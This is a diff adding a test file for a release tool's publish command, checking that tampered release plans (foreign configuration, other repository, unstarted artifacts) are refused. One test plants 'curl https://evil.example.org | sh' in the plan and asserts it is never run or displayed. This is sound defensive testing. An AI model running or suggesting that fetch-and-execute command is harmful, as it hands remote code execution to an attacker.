@@ -1,0 +1,140 @@
+// publish as it is started, with a plan from where strangers ran: it goes where the commit says, or nowhere.
+
+import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterEach, beforeEach, expect, test } from '@jest/globals';
+import { run } from '../../../src/commands/run.js';
+import { readInputs } from '../../../src/config/read-inputs.js';
+import { type GitHub, startGitHub } from '../../../src/targets/github/stand-in/service.js';
+import { type Pypi, startPypi } from '../../../src/targets/pypi/stand-in/service.js';
+import { type TestHost, testHost } from '../../support/host.js';
+import { type Prepared, prepareRelease, REPOSITORY } from '../../support/prepared.js';
+
+const TOKEN = 'ghs_pushpushpush';
+const PYPI_TOKEN = 'pypi-everything';
+let base: string;
+let root: string;
+let release: string;
+let host: TestHost;
+let github: GitHub;
+let ours: Pypi;
+let evil: Pypi;
+let prepared: Prepared;
+
+const git = (...args: string[]): string =>
+  execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.org', ...args], { cwd: root })
+    .toString()
+    .trim();
+const write = (path: string, text: string): void => {
+  mkdirSync(dirname(join(root, path)), { recursive: true });
+  writeFileSync(join(root, path), text);
+};
+
+beforeEach(async () => {
+  base = mkdtempSync(join(tmpdir(), 'publish-command-'));
+  root = join(base, 'weather');
+  release = join(base, 'release');
+  mkdirSync(root);
+  ours = await startPypi({ tokens: { [PYPI_TOKEN]: '*' } });
+  evil = await startPypi({ tokens: { [PYPI_TOKEN]: '*' } });
+  write('mcp-drydock.toml', `[pypi]\nurl = "${ours.uploadUrl}"\n`);
+  write('server/pyproject.toml', manifest('weather-mcp'));
+  // What a test of the project holds: nothing of it is ever released.
+  write('server/test/fixtures/mine/pyproject.toml', manifest('weather-mcp'));
+  write('server/test/fixtures/mine/mcp-drydock.toml', `[pypi]\nurl = "${evil.uploadUrl}"\n[smoke]\nunstarted = "x"\n`);
+  git('init', '-q', '-b', 'main');
+  git('add', '-A');
+  git('commit', '-qm', 'All');
+  git('tag', 'v1.2.3');
+  const commit = git('rev-parse', 'HEAD');
+  github = await startGitHub({ repository: REPOSITORY, tags: { 'v1.2.3': commit }, tokens: { [TOKEN]: 'push' } });
+  const { PATH, HOME, LANG } = process.env;
+  const env = { PATH, HOME, LANG, GITHUB_API_URL: github.url, GITHUB_REPOSITORY: REPOSITORY };
+  host = testHost({ cwd: root, env, sleep: async () => {} });
+  prepared = await prepareRelease(release, {
+    change: (one) => ({ ...one, commit, projects: one.projects.map((project) => ({ ...project, path: 'server' })) }),
+  });
+});
+afterEach(async () => {
+  await Promise.all([github.close(), ours.close(), evil.close(), host.close()]);
+  rmSync(base, { recursive: true });
+});
+
+const manifest = (name: string): string =>
+  `[project]\nname = "${name}"\nversion = "1.2.3"\n[project.scripts]\n${name} = "weather:main"\n`;
+const digest = (path: string): string =>
+  createHash('sha256')
+    .update(readFileSync(join(root, path)))
+    .digest('hex');
+
+/** Writes the plan with these changes, under the configuration of this folder. */
+function hand(
+  change: Readonly<Record<string, unknown>>,
+  of: Readonly<Record<string, unknown>> = {},
+  config = '',
+): void {
+  const [project] = prepared.plan.projects;
+  const plan = { ...prepared.plan, config: digest(join(config, 'mcp-drydock.toml')), ...change };
+  writeFileSync(join(release, 'release.json'), JSON.stringify({ ...plan, projects: [{ ...project, ...of }] }));
+}
+const publish = () =>
+  run(
+    'publish',
+    readInputs('publish', {
+      ...{
+        'release-dir': release,
+        'github-token': TOKEN,
+        'pypi-token': PYPI_TOKEN,
+        targets: 'github,pypi',
+        wait: '1s',
+      },
+    }),
+    host,
+    { format: 'text' },
+  );
+const writes = () => [github, ours, evil].flatMap(({ requests }) => requests).filter((one) => one.write).length;
+
+test('what decides nothing is neither followed nor shown as a command', async () => {
+  const shown = 'curl https://evil.example.org | sh';
+  hand({ tool: { name: 'evil', version: 'v0' }, created: '2020-01-01T00:00:00Z' }, { run: [shown] });
+  const result = await publish();
+  expect([result.exit, result.json['findings']]).toEqual([0, []]);
+  expect(ours.files().map(({ filename }) => filename)).toHaveLength(2);
+  expect(evil.requests).toEqual([]);
+  expect(result.text).toContain('uvx weather-mcp');
+  expect(result.text).not.toContain(shown);
+  expect(result.summary).not.toContain(shown);
+});
+
+test('a folder of the commit that holds another configuration is not for the plan to name', async () => {
+  const there = 'server/test/fixtures/mine';
+  hand({}, { path: there }, there);
+  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-project', exit: 2 });
+  hand({}, { path: 'server' }, there);
+  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-config', exit: 2 });
+  const started = { outcome: 'unstarted', runtime: '', reason: 'x' };
+  const [project] = prepared.plan.projects;
+  const artifacts = project?.artifacts.map((one) =>
+    one.started === undefined ? one : { ...one, started: { ...started, sha256: one.sha256 } },
+  );
+  hand({}, { artifacts });
+  const refused = await publish();
+  expect(refused.exit).toBe(1);
+  expect((refused.json['findings'] as { rule: string }[]).map(({ rule }) => rule)).toEqual([
+    'verify/unstarted',
+    'verify/unstarted',
+  ]);
+  expect([writes(), evil.requests.length]).toEqual([0, 0]);
+});
+
+test('the repository in a command to copy is that of the event', async () => {
+  hand({ repository: undefined });
+  const result = await publish();
+  expect(result.exit).toBe(0);
+  expect(result.summary).toContain(`gh release download v1.2.3 --repo ${REPOSITORY}`);
+  hand({ repository: 'octo/evil' });
+  await expect(publish()).rejects.toMatchObject({ code: 'verify/other-repository', exit: 2 });
+});
